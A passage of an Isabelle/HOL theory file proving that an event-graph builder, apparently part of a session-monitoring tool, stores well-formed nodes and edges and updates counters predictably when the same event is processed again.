      using True upsert_edge_run_op[OF p1 s1_id, of uuid4 now ev CONNECTS_TO] s1_db
      by (simp add: url_step_def url_ops_def case_prod_beta s1_def)
  next
    case False
    with len have "pids \<noteq> []" by simp
    thus ?thesis
      using False fold_process_edges_ops_eq[OF l1 s1_id, of uuid4 now ev CONNECTS_TO] s1_db
      by (simp add: url_step_def url_ops_def case_prod_beta s1_def)
  qed
qed

lemma fold_url_step_ops_eq:
  assumes "node_id db (parent_key ev) = Some parent_id"
    and "list_all2 (\<lambda>c i. node_id db (NT_PROCESS, c) = Some i) (e_commands ev) pids"
  shows "fold (url_step uuid4 now lib ev parent_id pids) urls db
           = fold (run_op uuid4 now ev) (concat (map (url_ops lib ev) urls)) db"
  using assms
proof (induction urls arbitrary: db)
  case Nil
  show ?case by simp
next
  case (Cons url urls)
  let ?db1 = "fold (run_op uuid4 now ev) (url_ops lib ev url) db"
  have p: "node_id ?db1 (parent_key ev) = Some parent_id"
    by (rule fold_run_op_stable[OF Cons.prems(1)])
  have l: "list_all2 (\<lambda>c i. node_id ?db1 (NT_PROCESS, c) = Some i) (e_commands ev) pids"
    using Cons.prems(2) by (rule list_all2_mono) (rule fold_run_op_stable)
  from Cons.IH[OF p l] show ?case
    by (simp add: url_step_ops_eq[OF Cons.prems])
qed

lemma build_graph_ops_eq:
  "build_graph uuid4 now lib db ev = fold (run_op uuid4 now ev) (graph_ops lib ev) db"
proof -
  let ?R = "run_op uuid4 now ev"
  define st where "st = session_and_tool uuid4 now ev db"
  define db3 where "db3 = (if e_commands ev = []
      then fold (file_step uuid4 now ev (snd st)) (e_file_paths ev) (fst st) else fst st)"
  define cs where "cs = fold (command_step uuid4 now lib ev (snd st)) (e_commands ev) (db3, [])"
  have bg: "build_graph uuid4 now lib db ev
      = fold (url_step uuid4 now lib ev (snd st) (snd cs)) (e_urls ev) (fst cs)"
    by (simp add: build_graph_def Let_def case_prod_beta st_def db3_def cs_def)
  let ?ops3 = "if e_commands ev = [] then concat (map (file_ops ev) (e_file_paths ev)) else []"
  have st_db: "fst st = fold ?R (session_and_tool_ops ev) db"
    unfolding st_def by (rule session_and_tool_ops_eq)
  have st_id: "node_id (fst st) (parent_key ev) = Some (snd st)"
    unfolding st_def by (rule session_and_tool_ops_eq)
  have db3_eq: "db3 = fold ?R ?ops3 (fst st)"
    unfolding db3_def by (simp add: fold_file_step_ops_eq[OF st_id])
  have p3: "node_id db3 (parent_key ev) = Some (snd st)"
    unfolding db3_eq by (rule fold_run_op_stable[OF st_id])
  from fold_command_step_ops_eq[OF p3, of "[]" "[]" uuid4 now lib "e_commands ev"]
  obtain pids' where cs_eq: "cs = (fold ?R (concat (map (command_ops lib ev) (e_commands ev))) db3, pids')"
    and l: "list_all2 (\<lambda>c i. node_id (fold ?R (concat (map (command_ops lib ev) (e_commands ev))) db3)
                           (NT_PROCESS, c) = Some i) (e_commands ev) pids'"
    unfolding cs_def by auto
  have p4: "node_id (fst cs) (parent_key ev) = Some (snd st)"
    unfolding cs_eq fst_conv by (rule fold_run_op_stable[OF p3])
  have l4: "list_all2 (\<lambda>c i. node_id (fst cs) (NT_PROCESS, c) = Some i) (e_commands ev) (snd cs)"
    unfolding cs_eq fst_conv snd_conv by (rule l)
  have "build_graph uuid4 now lib db ev
      = fold ?R (concat (map (url_ops lib ev) (e_urls ev))) (fst cs)"
    unfolding bg by (rule fold_url_step_ops_eq[OF p4 l4])
  also have "fst cs = fold ?R (concat (map (command_ops lib ev) (e_commands ev))) db3"
    by (simp add: cs_eq)
  finally show ?thesis
    unfolding db3_eq st_db graph_ops_def by simp
qed

subsection \<open>Every edge of the builder joins nodes it has stored\<close>

lemma ops_wf_mono:
  "ops_wf seen ops \<Longrightarrow> seen \<subseteq> seen' \<Longrightarrow> ops_wf seen' ops"
proof (induction seen ops arbitrary: seen' rule: ops_wf.induct)
  case (1 seen)
  show ?case by simp
next
  case (2 seen t l v ops)
  from "2.prems" have "ops_wf (insert (t, v) seen) ops" "insert (t, v) seen \<subseteq> insert (t, v) seen'"
    by auto
  from "2.IH"[OF this] show ?case by simp
next
  case (3 seen k1 k2 rel ops)
  from "3.prems" have "ops_wf seen ops" "k1 \<in> seen'" "k2 \<in> seen'" by auto
  with "3.IH"[OF this(1) "3.prems"(2)] show ?case by simp
qed

lemma ops_wf_append:
  "ops_wf seen (xs @ ys) = (ops_wf seen xs \<and> ops_wf (seen \<union> op_keys xs) ys)"
proof (induction seen xs rule: ops_wf.induct)
  case (1 seen)
  show ?case by simp
next
  case (2 seen t l v ops)
  thus ?case by simp
next
  case (3 seen k1 k2 rel ops)
  thus ?case by auto
qed

lemma op_keys_append: "op_keys (xs @ ys) = op_keys xs \<union> op_keys ys"
  by (induction xs rule: op_keys.induct) auto

lemma op_keys_concat: "op_keys (concat (map g xs)) = (\<Union>x \<in> set xs. op_keys (g x))"
  by (induction xs) (auto simp: op_keys_append)

lemma ops_wf_concat:
  "(\<And>x. x \<in> set xs \<Longrightarrow> ops_wf seen (g x)) \<Longrightarrow> ops_wf seen (concat (map g xs))"
proof (induction xs)
  case Nil
  show ?case by simp
next
  case (Cons x xs)
  have "ops_wf seen (concat (map g xs))" using Cons by simp
  hence "ops_wf (seen \<union> op_keys (g x)) (concat (map g xs))"
    by (rule ops_wf_mono) simp
  with Cons.prems[of x] show ?case by (simp add: ops_wf_append)
qed

lemma session_and_tool_ops_wf:
  "ops_wf seen (session_and_tool_ops ev)" "parent_key ev \<in> op_keys (session_and_tool_ops ev)"
  by (auto simp: session_and_tool_ops_def parent_key_def split: option.splits)

lemma file_ops_wf: "parent_key ev \<in> seen \<Longrightarrow> ops_wf seen (file_ops ev fp)"
  by (simp add: file_ops_def)

lemma ref_ops_wf: "(NT_PROCESS, cmd) \<in> seen \<Longrightarrow> ops_wf seen (ref_ops cmd ref)"
  by (simp add: ref_ops_def)

lemma command_ops_wf:
  assumes "parent_key ev \<in> seen"
  shows "ops_wf seen (command_ops lib ev cmd)"
proof -
  let ?seen' = "insert (NT_PROCESS, cmd) (insert (NT_COMMAND, group_value ev cmd) seen)"
  have "ops_wf ?seen' (concat (map (ref_ops cmd) (extract_command_file_refs lib cmd)))"
    by (rule ops_wf_concat) (simp add: ref_ops_wf)
  with assms show ?thesis by (simp add: command_ops_def)
qed

lemma command_ops_keys: "(NT_PROCESS, cmd) \<in> op_keys (command_ops lib ev cmd)"
  by (simp add: command_ops_def)

lemma url_ops_wf:
  assumes "parent_key ev \<in> seen" and "\<And>cmd. cmd \<in> set (e_commands ev) \<Longrightarrow> (NT_PROCESS, cmd) \<in> seen"
  shows "ops_wf seen (url_ops lib ev url)"
proof -
  have "(\<And>cmd. cmd \<in> set cmds \<Longrightarrow> (NT_PROCESS, cmd) \<in> seen') \<Longrightarrow> (NT_URL, url) \<in> seen' \<Longrightarrow>
      ops_wf seen' (map (\<lambda>cmd. EdgeOp (NT_PROCESS, cmd) (NT_URL, url) CONNECTS_TO) cmds)"
    for cmds seen'
    by (induction cmds) simp_all
  from this[of "e_commands ev" "insert (NT_URL, url) seen"] assms show ?thesis
    by (simp add: url_ops_def)
qed

lemma graph_ops_wf: "ops_wf {} (graph_ops lib ev)"
proof -
  let ?A = "session_and_tool_ops ev"
  let ?B = "if e_commands ev = [] then concat (map (file_ops ev) (e_file_paths ev)) else []"
  let ?C = "concat (map (command_ops lib ev) (e_commands ev))"
  let ?D = "concat (map (url_ops lib ev) (e_urls ev))"
  have pk: "parent_key ev \<in> op_keys ?A" by (rule session_and_tool_ops_wf)
  have a: "ops_wf {} ?A" by (rule session_and_tool_ops_wf)
  have "ops_wf (op_keys ?A) (concat (map (file_ops ev) (e_file_paths ev)))"
    by (rule ops_wf_concat) (rule file_ops_wf[OF pk])
  hence b: "ops_wf ({} \<union> op_keys ?A) ?B" by simp
  have "ops_wf (op_keys ?A) ?C"
    by (rule ops_wf_concat) (rule command_ops_wf[OF pk])
  hence c: "ops_wf ({} \<union> op_keys ?A \<union> op_keys ?B) ?C"
    by (rule ops_wf_mono) blast
  have pc: "(NT_PROCESS, cmd) \<in> op_keys ?C" if "cmd \<in> set (e_commands ev)" for cmd
    unfolding op_keys_concat using that command_ops_keys by blast
  have d: "ops_wf ({} \<union> op_keys ?A \<union> op_keys ?B \<union> op_keys ?C) ?D"
  proof (rule ops_wf_concat, rule url_ops_wf)
    show "parent_key ev \<in> {} \<union> op_keys ?A \<union> op_keys ?B \<union> op_keys ?C" using pk by blast
  next
    fix cmd assume "cmd \<in> set (e_commands ev)"
    from pc[OF this] show "(NT_PROCESS, cmd) \<in> {} \<union> op_keys ?A \<union> op_keys ?B \<union> op_keys ?C"
      by blast
  qed
  have "ops_wf {} (?A @ ?B @ ?C @ ?D)"
    unfolding ops_wf_append using a b c d by (simp add: Un_assoc)
  thus ?thesis by (simp add: graph_ops_def)
qed

subsection \<open>What one run of the builder leaves in the store\<close>

lemma upsert_node_nodes:
  "db_graph_nodes (fst (upsert_node uuid4 now ev t l v db)) =
     (if (t, v) \<in> set (map node_key (db_graph_nodes db)) then
        map (\<lambda>r. if node_key r = (t, v)
                 then r\<lparr>n_last_seen := now, n_access_count := n_access_count r + 1,
                        n_alert_count := n_alert_count r + 0,
                        n_session_ids := [e_session_id ev], n_event_ids := [e_id ev],
                        n_size := n_size r + 1\<rparr>
                 else r) (db_graph_nodes db)
      else db_graph_nodes db
           @ [GraphNode (uuid4 db) now t l v [e_session_id ev] [e_id ev]])"
  unfolding upsert_node_def save_graph_node_nodes
  by (simp add: node_key_def GraphNode_def)

lemma upsert_node_edges:
  "db_graph_edges (fst (upsert_node uuid4 now ev t l v db)) = db_graph_edges db"
  by (simp add: upsert_node_def save_graph_node_frame)

lemma upsert_edge_edges:
  "db_graph_edges (upsert_edge uuid4 now ev i j rel db) =
     (if (i, j, rel) \<in> set (map edge_key (db_graph_edges db)) then
        map (\<lambda>r. if edge_key r = (i, j, rel)
                 then r\<lparr>ge_last_seen := now, ge_count := ge_count r + 1,
                        ge_session_ids := [e_session_id ev], ge_event_ids := [e_id ev],
                        ge_weight := ge_weight r + 1\<rparr>
                 else r) (db_graph_edges db)
      else db_graph_edges db
           @ [GraphEdge (uuid4 db) now i j rel [e_session_id ev] [e_id ev]])"
  unfolding upsert_edge_def save_graph_edge_edges
  by (simp add: edge_key_def GraphEdge_def)

lemma upsert_edge_nodes:
  "db_graph_nodes (upsert_edge uuid4 now ev i j rel db) = db_graph_nodes db"
  by (simp add: upsert_edge_def save_graph_edge_frame)

lemma upsert_node_stable:
  "node_id db k = Some i \<Longrightarrow> node_id (fst (upsert_node uuid4 now ev t l v db)) k = Some i"
  unfolding upsert_node_def by (rule save_graph_node_stable)

lemma upsert_edge_node_id:
  "node_id (upsert_edge uuid4 now ev i j rel db) k = node_id db k"
  by (rule node_id_cong) (rule upsert_edge_nodes)

lemma node_done_upsert_node:
  assumes "node_done ev db k"
  shows "node_done ev (fst (upsert_node uuid4 now ev t l v db)) k"
proof -
  from assms obtain i where i: "node_id db k = Some i" by (auto simp: node_done_def)
  have 1: "node_id (fst (upsert_node uuid4 now ev t l v db)) k \<noteq> None"
    using upsert_node_stable[OF i] by simp
  from assms have old: "\<forall>r \<in> set (db_graph_nodes db). node_key r = k \<longrightarrow>
      n_session_ids r = [e_session_id ev] \<and> n_event_ids r = [e_id ev]"
    by (simp add: node_done_def list_all_iff)
  have 2: "\<forall>r \<in> set (db_graph_nodes (fst (upsert_node uuid4 now ev t l v db))). node_key r = k \<longrightarrow>
      n_session_ids r = [e_session_id ev] \<and> n_event_ids r = [e_id ev]"
    unfolding upsert_node_nodes using old
    by (auto simp: GraphNode_def node_key_def)
  from 1 2 show ?thesis by (simp add: node_done_def list_all_iff)
qed

lemma node_done_upsert_edge:
  "node_done ev db k \<Longrightarrow> node_done ev (upsert_edge uuid4 now ev i j rel db) k"
  by (simp add: node_done_def upsert_edge_node_id upsert_edge_nodes)

lemma edge_done_upsert_node:
  "edge_done ev db k \<Longrightarrow> edge_done ev (fst (upsert_node uuid4 now ev t l v db)) k"
  by (simp add: edge_done_def upsert_node_edges)

lemma edge_done_upsert_edge:
  assumes "edge_done ev db k"
  shows "edge_done ev (upsert_edge uuid4 now ev i j rel db) k"
proof -
  from assms have old: "\<forall>r \<in> set (db_graph_edges db). edge_key r = k \<longrightarrow>
      ge_session_ids r = [e_session_id ev] \<and> ge_event_ids r = [e_id ev]"
    and mem: "k \<in> set (map edge_key (db_graph_edges db))"
    by (simp_all add: edge_done_def list_all_iff)
  have keys: "map edge_key (db_graph_edges (upsert_edge uuid4 now ev i j rel db)) =
     (if (i, j, rel) \<in> set (map edge_key (db_graph_edges db))
      then map edge_key (db_graph_edges db)
      else map edge_key (db_graph_edges db) @ [(i, j, rel)])"
    unfolding upsert_edge_def save_graph_edge_keys by (simp add: edge_key_def GraphEdge_def)
  have 1: "k \<in> set (map edge_key (db_graph_edges (upsert_edge uuid4 now ev i j rel db)))"
    unfolding keys using mem by simp
  have 2: "\<forall>r \<in> set (db_graph_edges (upsert_edge uuid4 now ev i j rel db)). edge_key r = k \<longrightarrow>
      ge_session_ids r = [e_session_id ev] \<and> ge_event_ids r = [e_id ev]"
    unfolding upsert_edge_edges using old
    by (auto simp: GraphEdge_def edge_key_def)
  from 1 2 show ?thesis by (simp add: edge_done_def list_all_iff)
qed

lemma op_done_run_op:
  assumes "op_done ev db op"
  shows "op_done ev (run_op uuid4 now ev op' db) op"
proof (cases op)
  case (NodeOp t l v)
  with assms have d: "node_done ev db (t, v)" by simp
  show ?thesis
  proof (cases op')
    case (NodeOp t' l' v')
    thus ?thesis using node_done_upsert_node[OF d] \<open>op = NodeOp t l v\<close>
      by (simp add: run_op_def)
  next
    case (EdgeOp k1 k2 rel)
    thus ?thesis using node_done_upsert_edge[OF d] d \<open>op = NodeOp t l v\<close>
      by (simp add: run_op_def split: option.splits)
  qed
next
  case (EdgeOp a b rel)
  with assms obtain i j where i: "node_id db a = Some i" and j: "node_id db b = Some j"
    and d: "edge_done ev db (i, j, rel)"
    by (auto split: option.splits)
  have i': "node_id (run_op uuid4 now ev op' db) a = Some i" by (rule run_op_stable[OF i])
  have j': "node_id (run_op uuid4 now ev op' db) b = Some j" by (rule run_op_stable[OF j])
  have "edge_done ev (run_op uuid4 now ev op' db) (i, j, rel)"
  proof (cases op')
    case (NodeOp t' l' v')
    thus ?thesis using edge_done_upsert_node[OF d] by (simp add: run_op_def)
  next
    case (EdgeOp k1 k2 rel')
    thus ?thesis using edge_done_upsert_edge[OF d] d
      by (simp add: run_op_def split: option.splits)
  qed
  with i' j' EdgeOp show ?thesis by simp
qed

lemma node_done_new:
  "node_done ev (fst (upsert_node uuid4 now ev t l v db)) (t, v)"
proof -
  have 1: "node_id (fst (upsert_node uuid4 now ev t l v db)) (t, v) \<noteq> None"
    by (simp add: upsert_node_id)
  have 2: "\<forall>r \<in> set (db_graph_nodes (fst (upsert_node uuid4 now ev t l v db))).
      node_key r = (t, v) \<longrightarrow> n_session_ids r = [e_session_id ev] \<and> n_event_ids r = [e_id ev]"
    unfolding upsert_node_nodes
    by (auto simp: GraphNode_def node_key_def)
  from 1 2 show ?thesis by (simp add: node_done_def list_all_iff)
qed

lemma edge_done_new:
  "edge_done ev (upsert_edge uuid4 now ev i j rel db) (i, j, rel)"
proof -
  have keys: "map edge_key (db_graph_edges (upsert_edge uuid4 now ev i j rel db)) =
     (if (i, j, rel) \<in> set (map edge_key (db_graph_edges db))
      then map edge_key (db_graph_edges db)
      else map edge_key (db_graph_edges db) @ [(i, j, rel)])"
    unfolding upsert_edge_def save_graph_edge_keys by (simp add: edge_key_def GraphEdge_def)
  have 1: "(i, j, rel) \<in> set (map edge_key (db_graph_edges (upsert_edge uuid4 now ev i j rel db)))"
    unfolding keys by simp
  have 2: "\<forall>r \<in> set (db_graph_edges (upsert_edge uuid4 now ev i j rel db)).
      edge_key r = (i, j, rel) \<longrightarrow> ge_session_ids r = [e_session_id ev] \<and> ge_event_ids r = [e_id ev]"
    unfolding upsert_edge_edges
    by (auto simp: GraphEdge_def edge_key_def)
  from 1 2 show ?thesis by (simp add: edge_done_def list_all_iff)
qed

lemma fold_run_op_done:
  assumes "ops_wf seen ops" and "\<And>k. k \<in> seen \<Longrightarrow> node_id db k \<noteq> None"
    and "\<And>op. op \<in> D \<Longrightarrow> op_done ev db op"
  shows "\<forall>op \<in> D \<union> set ops. op_done ev (fold (run_op uuid4 now ev) ops db) op"
  using assms
proof (induction ops arbitrary: db seen D)
  case Nil
  thus ?case by simp
next
  case (Cons op ops)
  let ?db1 = "run_op uuid4 now ev op db"
  have old: "op_done ev ?db1 op'" if "op' \<in> D" for op'
    by (rule op_done_run_op) (rule Cons.prems(3)[OF that])
  show ?case
  proof (cases op)
    case (NodeOp t l v)
    from Cons.prems(1) NodeOp have wf: "ops_wf (insert (t, v) seen) ops" by simp
    have new: "op_done ev ?db1 op"
      using node_done_new[of ev uuid4 now t l v db] NodeOp by (simp add: run_op_def)
    have seen': "node_id ?db1 k \<noteq> None" if "k \<in> insert (t, v) seen" for k
    proof (cases "k = (t, v)")
      case True
      thus ?thesis using new NodeOp by (simp add: node_done_def)
    next
      case False
      with that have "k \<in> seen" by simp
      from Cons.prems(2)[OF this] obtain i where "node_id db k = Some i" by auto
      from run_op_stable[OF this] show ?thesis by simp
    qed
    have done': "op_done ev ?db1 op'" if "op' \<in> insert op D" for op'
      using that old new by auto
    from Cons.IH[OF wf seen' done', of "insert op D"] show ?thesis by simp
  next
    case (EdgeOp k1 k2 rel)
    from Cons.prems(1) EdgeOp have wf: "ops_wf seen ops" and k1: "k1 \<in> seen" and k2: "k2 \<in> seen"
      by simp_all
    from Cons.prems(2)[OF k1] obtain i where i: "node_id db k1 = Some i" by auto
    from Cons.prems(2)[OF k2] obtain j where j: "node_id db k2 = Some j" by auto
    have db1: "?db1 = upsert_edge uuid4 now ev i j rel db"
      using EdgeOp i j by (simp add: run_op_def)
    have new: "op_done ev ?db1 op"
      unfolding db1 using edge_done_new[of ev uuid4 now i j rel db] EdgeOp i j
      by (simp add: upsert_edge_node_id)
    have seen': "node_id ?db1 k \<noteq> None" if "k \<in> seen" for k
      using Cons.prems(2)[OF that] by (simp add: db1 upsert_edge_node_id)
    have done': "op_done ev ?db1 op'" if "op' \<in> insert op D" for op'
      using that old new by auto
    from Cons.IH[OF wf seen' done', of "insert op D"] show ?thesis by simp
  qed
qed

lemma build_graph_done:
  "\<forall>op \<in> set (graph_ops lib ev). op_done ev (build_graph uuid4 now lib db ev) op"
  using fold_run_op_done[OF graph_ops_wf[of lib ev], where db = db and D = "{}" and ev = ev
      and ?uuid4.0 = uuid4 and now = now]
  by (simp add: build_graph_ops_eq)


subsection \<open>A second run of the builder on the same event\<close>

lemma run_op_frame:
  "db_sessions (run_op uuid4 now ev op db) = db_sessions db"
  "db_events (run_op uuid4 now ev op db) = db_events db"
  "db_alerts (run_op uuid4 now ev op db) = db_alerts db"
  "db_policies (run_op uuid4 now ev op db) = db_policies db"
  by (cases op; simp add: run_op_def upsert_node_def upsert_edge_def save_graph_node_frame
        save_graph_edge_frame split: option.splits)+

lemma fold_run_op_frame:
  "db_sessions (fold (run_op uuid4 now ev) ops db) = db_sessions db"
  "db_events (fold (run_op uuid4 now ev) ops db) = db_events db"
  "db_alerts (fold (run_op uuid4 now ev) ops db) = db_alerts db"
  "db_policies (fold (run_op uuid4 now ev) ops db) = db_policies db"
  by (induction ops arbitrary: db; simp add: run_op_frame)+

lemma node_seen_again_step:
  "node_seen_again now c
     (r\<lparr>n_last_seen := now, n_access_count := n_access_count r + 1, n_size := n_size r + 1\<rparr>)
   = node_seen_again now (Suc c) r"
  by (simp add: node_seen_again_def algebra_simps)

lemma edge_seen_again_step:
  "edge_seen_again now c
     (r\<lparr>ge_last_seen := now, ge_count := ge_count r + 1, ge_weight := ge_weight r + 1\<rparr>)
   = edge_seen_again now (Suc c) r"
  by (simp add: edge_seen_again_def algebra_simps)

lemma node_done_nodes:
  assumes "node_done ev db (t, v)"
  shows "db_graph_nodes (fst (upsert_node uuid4 now ev t l v db)) =
     map (\<lambda>r. if node_key r = (t, v)
              then r\<lparr>n_last_seen := now, n_access_count := n_access_count r + 1,
                     n_size := n_size r + 1\<rparr>
              else r) (db_graph_nodes db)"
proof -
  from assms have mem: "(t, v) \<in> set (map node_key (db_graph_nodes db))"
    using node_id_present[of db "(t, v)"] by (simp add: node_done_def)
  from assms have old: "\<And>r. r \<in> set (db_graph_nodes db) \<Longrightarrow> node_key r = (t, v) \<Longrightarrow>
      n_session_ids r = [e_session_id ev] \<and> n_event_ids r = [e_id ev]"
    by (simp add: node_done_def list_all_iff)
  have "map (\<lambda>r. if node_key r = (t, v)
                 then r\<lparr>n_last_seen := now, n_access_count := n_access_count r + 1,
                        n_alert_count := n_alert_count r + 0,
                        n_session_ids := [e_session_id ev], n_event_ids := [e_id ev],
                        n_size := n_size r + 1\<rparr>
                 else r) (db_graph_nodes db)
      = map (\<lambda>r. if node_key r = (t, v)
              then r\<lparr>n_last_seen := now, n_access_count := n_access_count r + 1,
                     n_size := n_size r + 1\<rparr>
              else r) (db_graph_nodes db)"
  proof (rule map_cong[OF refl])
    fix r assume r: "r \<in> set (db_graph_nodes db)"
    show "(if node_key r = (t, v)
                 then r\<lparr>n_last_seen := now, n_access_count := n_access_count r + 1,
                        n_alert_count := n_alert_count r + 0,
                        n_session_ids := [e_session_id ev], n_event_ids := [e_id ev],
                        n_size := n_size r + 1\<rparr>
                 else r)
        = (if node_key r = (t, v)
              then r\<lparr>n_last_seen := now, n_access_count := n_access_count r + 1,
                     n_size := n_size r + 1\<rparr>
              else r)"
    proof (cases "node_key r = (t, v)")
      case True
      from old[OF r True] show ?thesis by (cases r) (simp add: True)
    next
      case False
      thus ?thesis by simp
    qed
  qed
  with mem show ?thesis
    unfolding upsert_node_nodes by (simp del: set_map map_map)
qed

lemma edge_done_edges:
  assumes "edge_done ev db (i, j, rel)"
  shows "db_graph_edges (upsert_edge uuid4 now ev i j rel db) =
     map (\<lambda>r. if edge_key r = (i, j, rel)
              then r\<lparr>ge_last_seen := now, ge_count := ge_count r + 1,
                     ge_weight := ge_weight r + 1\<rparr>
              else r) (db_graph_edges db)"
proof -
  from assms have mem: "(i, j, rel) \<in> set (map edge_key (db_graph_edges db))"
    by (simp add: edge_done_def)
  from assms have old: "\<And>r. r \<in> set (db_graph_edges db) \<Longrightarrow> edge_key r = (i, j, rel) \<Longrightarrow>
      ge_session_ids r = [e_session_id ev] \<and> ge_event_ids r = [e_id ev]"
    by (simp add: edge_done_def list_all_iff)
  have "map (\<lambda>r. if edge_key r = (i, j, rel)
                 then r\<lparr>ge_last_seen := now, ge_count := ge_count r + 1,
                        ge_session_ids := [e_session_id ev], ge_event_ids := [e_id ev],
                        ge_weight := ge_weight r + 1\<rparr>
                 else r) (db_graph_edges db)
      = map (\<lambda>r. if edge_key r = (i, j, rel)
              then r\<lparr>ge_last_seen := now, ge_count := ge_count r + 1,
                     ge_weight := ge_weight r + 1\<rparr>
              else r) (db_graph_edges db)"
  proof (rule map_cong[OF refl])
    fix r assume r: "r \<in> set (db_graph_edges db)"
    show "(if edge_key r = (i, j, rel)
                 then r\<lparr>ge_last_seen := now, ge_count := ge_count r + 1,
                        ge_session_ids := [e_session_id ev], ge_event_ids := [e_id ev],
                        ge_weight := ge_weight r + 1\<rparr>
                 else r)
        = (if edge_key r = (i, j, rel)
              then r\<lparr>ge_last_seen := now, ge_count := ge_count r + 1,
                     ge_weight := ge_weight r + 1\<rparr>
              else r)"
    proof (cases "edge_key r = (i, j, rel)")
      case True
      from old[OF r True] show ?thesis by (cases r) (simp add: True)
    next
      case False
      thus ?thesis by simp
    qed
  qed
  with mem show ?thesis
    unfolding upsert_edge_edges by (simp del: set_map map_map)
qed

lemma op_edge_key_run_op:
  assumes "op_done ev db op'"
  shows "op_edge_key (run_op uuid4 now ev op db) op' = op_edge_key db op'"
proof (cases op')
  case (NodeOp t l v)
  thus ?thesis by (simp add: op_edge_key_def)
next
  case (EdgeOp k1 k2 rel)
  with assms obtain i j where i: "node_id db k1 = Some i" and j: "node_id db k2 = Some j"
    by (auto split: option.splits)
  from run_op_stable[OF i] run_op_stable[OF j] i j EdgeOp show ?thesis
    by (simp add: op_edge_key_def)
qed

lemma edge_upserts_run_op:
  assumes "\<And>op'. op' \<in> set ops \<Longrightarrow> op_done ev db op'"
  shows "edge_upserts (run_op uuid4 now ev op db) ops = edge_upserts db ops"
proof
  fix k
  have "filter (\<lambda>op'. op_edge_key (run_op uuid4 now ev op db) op' = Some k) ops
      = filter (\<lambda>op'. op_edge_key db op' = Some k) ops"
    by (rule filter_cong[OF refl]) (simp add: op_edge_key_run_op[OF assms])
  thus "edge_upserts (run_op uuid4 now ev op db) ops k = edge_upserts db ops k"
    by (simp add: edge_upserts_def)
qed

lemma fold_run_op_again:
  assumes "\<And>op. op \<in> set ops \<Longrightarrow> op_done ev db op" and "set ops' \<subseteq> set ops"
  shows "db_graph_nodes (fold (run_op uuid4 now ev) ops' db) =
           map (\<lambda>r. node_seen_again now (node_upserts ops' (node_key r)) r) (db_graph_nodes db)
       \<and> db_graph_edges (fold (run_op uuid4 now ev) ops' db) =
           map (\<lambda>r. edge_seen_again now (edge_upserts db ops' (edge_key r)) r) (db_graph_edges db)"
  using assms
proof (induction ops' arbitrary: db)
  case Nil
  show ?case by (simp add: node_upserts_def edge_upserts_def node_seen_again_def
        edge_seen_again_def)
next
  case (Cons op ops')
  let ?db1 = "run_op uuid4 now ev op db"
  from Cons.prems(2) have op: "op \<in> set ops" and sub: "set ops' \<subseteq> set ops" by simp_all
  have d1: "op_done ev ?db1 op'" if "op' \<in> set ops" for op'
    by (rule op_done_run_op) (rule Cons.prems(1)[OF that])
  have d0: "op_done ev db op'" if "op' \<in> set ops'" for op'
    using Cons.prems(1) sub that by blast
  have eu: "edge_upserts ?db1 ops' = edge_upserts db ops'"
    by (rule edge_upserts_run_op[OF d0])
  from Cons.IH[OF d1 sub] have
    n2: "db_graph_nodes (fold (run_op uuid4 now ev) ops' ?db1) =
           map (\<lambda>r. node_seen_again now (node_upserts ops' (node_key r)) r) (db_graph_nodes ?db1)"
    and e2: "db_graph_edges (fold (run_op uuid4 now ev) ops' ?db1) =
           map (\<lambda>r. edge_seen_again now (edge_upserts db ops' (edge_key r)) r) (db_graph_edges ?db1)"
    unfolding eu by simp_all
  show ?case
  proof (cases op)
    case (NodeOp t l v)
    from Cons.prems(1)[OF op] NodeOp have nd: "node_done ev db (t, v)" by simp
    have n1: "db_graph_nodes ?db1 =
        map (\<lambda>r. if node_key r = (t, v)
              then r\<lparr>n_last_seen := now, n_access_count := n_access_count r + 1,
                     n_size := n_size r + 1\<rparr>
              else r) (db_graph_nodes db)"
      using node_done_nodes[OF nd, of uuid4 now l] NodeOp by (simp add: run_op_def)
    have e1: "db_graph_edges ?db1 = db_graph_edges db"
      using NodeOp by (simp add: run_op_def upsert_node_edges)
    have nu: "node_upserts (op # ops') k = (if k = (t, v) then Suc (node_upserts ops' k)
                                           else node_upserts ops' k)" for k
      using NodeOp by (auto simp: node_upserts_def)
    have eup: "edge_upserts db (op # ops') = edge_upserts db ops'"
      using NodeOp by (auto simp: edge_upserts_def op_edge_key_def fun_eq_iff)
    have "db_graph_nodes (fold (run_op uuid4 now ev) ops' ?db1) =
           map (\<lambda>r. node_seen_again now (node_upserts (op # ops') (node_key r)) r) (db_graph_nodes db)"
      unfolding n2 n1 map_map
      by (rule map_cong[OF refl]) (simp add: nu node_key_def node_seen_again_step)
    moreover have "db_graph_edges (fold (run_op uuid4 now ev) ops' ?db1) =
           map (\<lambda>r. edge_seen_again now (edge_upserts db (op # ops') (edge_key r)) r) (db_graph_edges db)"
      unfolding e2 e1 eup ..
    ultimately show ?thesis by simp
  next
    case (EdgeOp k1 k2 rel)
    from Cons.prems(1)[OF op] EdgeOp obtain i j where i: "node_id db k1 = Some i"
      and j: "node_id db k2 = Some j" and ed: "edge_done ev db (i, j, rel)"
      by (auto split: option.splits)
    have db1: "?db1 = upsert_edge uuid4 now ev i j rel db"
      using EdgeOp i j by (simp add: run_op_def)
    have e1: "db_graph_edges ?db1 =
        map (\<lambda>r. if edge_key r = (i, j, rel)
              then r\<lparr>ge_last_seen := now, ge_count := ge_count r + 1,
                     ge_weight := ge_weight r + 1\<rparr>
              else r) (db_graph_edges db)"
      unfolding db1 by (rule edge_done_edges[OF ed])
    have n1: "db_graph_nodes ?db1 = db_graph_nodes db"
      unfolding db1 by (rule upsert_edge_nodes)
    have nu: "node_upserts (op # ops') = node_upserts ops'"
      using EdgeOp by (auto simp: node_upserts_def fun_eq_iff)
    have ek: "op_edge_key db op = Some (i, j, rel)"
      using EdgeOp i j by (simp add: op_edge_key_def)
    have eup: "edge_upserts db (op # ops') k = (if k = (i, j, rel) then Suc (edge_upserts db ops' k)
                                               else edge_upserts db ops' k)" for k
      using ek by (auto simp: edge_upserts_def)
    have "db_graph_edges (fold (run_op uuid4 now ev) ops' ?db1) =
           map (\<lambda>r. edge_seen_again now (edge_upserts db (op # ops') (edge_key r)) r) (db_graph_edges db)"
      unfolding e2 e1 map_map
      by (rule map_cong[OF refl]) (simp add: eup edge_key_def edge_seen_again_step)
    moreover have "db_graph_nodes (fold (run_op uuid4 now ev) ops' ?db1) =
           map (\<lambda>r. node_seen_again now (node_upserts (op # ops') (node_key r)) r) (db_graph_nodes db)"
      unfolding n2 n1 nu ..
    ultimately show ?thesis by simp
  qed
qed

lemma op_done_stored: "op_done ev db op \<Longrightarrow> op_stored db op"
proof (cases op)
  case (NodeOp t l v)
  assume "op_done ev db op"
